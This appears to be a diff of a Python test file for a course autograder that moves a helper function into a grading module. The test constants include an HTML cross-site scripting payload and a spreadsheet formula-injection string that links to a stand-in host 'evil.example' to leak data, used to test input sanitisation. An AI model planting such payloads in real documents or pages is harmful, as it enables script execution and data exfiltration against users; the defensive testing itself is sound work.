@@ -15,7 +15,7 @@ from pathlib import Path
 
 from support import built_once
 from support.feedback import BUNDLED_COURSE, REPO, autograde
-from support.grading import OPTIMIZERS_SOURCE, optimizers_with
+from support.grading import OPTIMIZERS_SOURCE, answers_module, optimizers_with
 
 HOSTILE_HTML = "<img src=x onerror=alert(1)>"
 HOSTILE_FORMULA = '=HYPERLINK("evil.example?leak","x")'  # no "/": it is also a folder name
@@ -86,10 +86,6 @@ def formula(cell: str) -> bool:
         return False
     except ValueError:
         return cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))
-
-
-def answers_module(answers: dict) -> str:
-    return "".join(f"{name} = {value!r}\n" for name, value in answers.items())
 
 
 def _build(course: Path) -> None:
